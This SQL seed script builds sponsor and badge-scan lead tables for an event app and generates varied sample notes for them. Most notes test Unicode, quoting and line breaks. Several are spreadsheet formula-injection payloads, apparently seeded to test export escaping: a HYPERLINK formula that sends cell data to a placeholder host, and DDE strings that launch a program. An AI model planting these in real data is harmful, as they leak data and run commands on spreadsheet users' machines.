-- Sponsors, and the guests whose badges they scanned. Notes are typed at a stand: by people, and by those who would like
-- a spreadsheet to run something.

create table app.sponsors (
  account_id text not null,
  event_id bigint not null,
  sponsor_id bigint not null,
  name text not null,
  tier text not null,
  primary key (account_id, event_id, sponsor_id)
);

create table app.leads (
  account_id text not null,
  event_id bigint not null,
  lead_id bigint not null,
  sponsor_id bigint not null,
  guest_id bigint not null,
  scanned_at timestamptz not null,
  score int check (score between 0 and 100),
  notes text,
  primary key (account_id, event_id, lead_id)
);

insert into app.sponsors
select account_id, event_id, event_id * 10 + n, sponsor, ('{Gold,Silver,Silver,Bronze,Bronze}'::text[])[n]
from sample.events,
  unnest('{Initech,"Hooli, Inc.",Größenwahn GmbH,合同会社ミライ,"Stark \"Power\" Supplies"}'::text[])
    with ordinality as sponsors (sponsor, n);

insert into app.leads
select
  account_id,
  event_id,
  event_id * 100000 + row_number() over (partition by event_id order by scanned_at, sponsor_id, guest_id),
  sponsor_id,
  guest_id,
  scanned_at,
  case when hash >> 40 & 7 <> 0 then (101 * sample.around_half(hash, 8))::int % 101 end,
  case hash >> 44 & 31
    when 0 then '=HYPERLINK("https://leads.example/?c="&A1,"Prize draw")'
    when 1 then '+49 30 1234567, call after 17:00'
    when 2 then '@SUM(1+1)*cmd|'' /C calc''!A0'
    when 3 then '-2+3+cmd|'' /C calc''!A0'
    when 4 then e'\t=1+1'
    when 5 then e'wants a demo\r\nbudget: "some"'
    when 6 then '＝1+1'
    when 7 then ''
    when 8 then 'décideur, à rappeler; 予算あり'
    when 9 then 'مهتم بالمنتج (Q3)'
    when 10 then '0049301234567'
    when 11 then '<b>hot</b> & "ready"'
    when 12 then 'spoke to Zoë 👍🏽'
  end
from (
  select *, checked_in_at + (300 + 9000 * sample.share(hash, 24)) * interval '1 second' as scanned_at
  from (
    -- A sponsor scans a badge once, on its guest's first day.
    select first_entries.*, sponsor_id, sample.hash('lead', guest_id * 10 + sponsor_id % 10) as hash
    from (
      select distinct on (account_id, event_id, ticket_id) * from app.check_ins
      order by account_id, event_id, ticket_id, checked_in_at
    ) as first_entries
    join app.sponsors using (account_id, event_id)
    offset 0
  ) as met
  where sample.share(hash, 0) < 0.13 - 0.02 * (sponsor_id % 10)
) as leads;
